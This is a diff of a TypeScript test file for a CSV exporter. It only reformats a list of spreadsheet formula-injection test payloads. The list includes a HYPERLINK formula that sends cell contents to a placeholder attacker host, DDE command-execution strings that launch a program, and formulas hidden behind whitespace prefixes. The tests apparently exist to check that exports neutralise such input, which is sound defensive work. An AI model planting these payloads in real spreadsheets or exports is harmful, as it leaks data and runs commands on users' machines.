@@ -10,17 +10,8 @@ const oneCell = (cell: Cell) => readCsv(bare(toCsv([[cell]], english)), ',')[0]?
 
 /** Formula prefixes of spreadsheets and of vulnerability scanners. */
 const PAYLOADS = [
-  '=1+1',
-  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
-  "=cmd|' /C calc'!A0",
-  '+1+1',
-  '+34 600 000 000',
-  '-2+3+cmd|calc!A0',
-  '@SUM(A1:A9)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '＝1+1',
+  ...['=1+1', '=HYPERLINK("https://evil.example/?leak="&A1,"Open")', "=cmd|' /C calc'!A0", '+1+1'],
+  ...['+34 600 000 000', '-2+3+cmd|calc!A0', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1'],
 ];
 
 test('a file begins with the UTF-8 byte order mark, and each line ends with CRLF', () => {
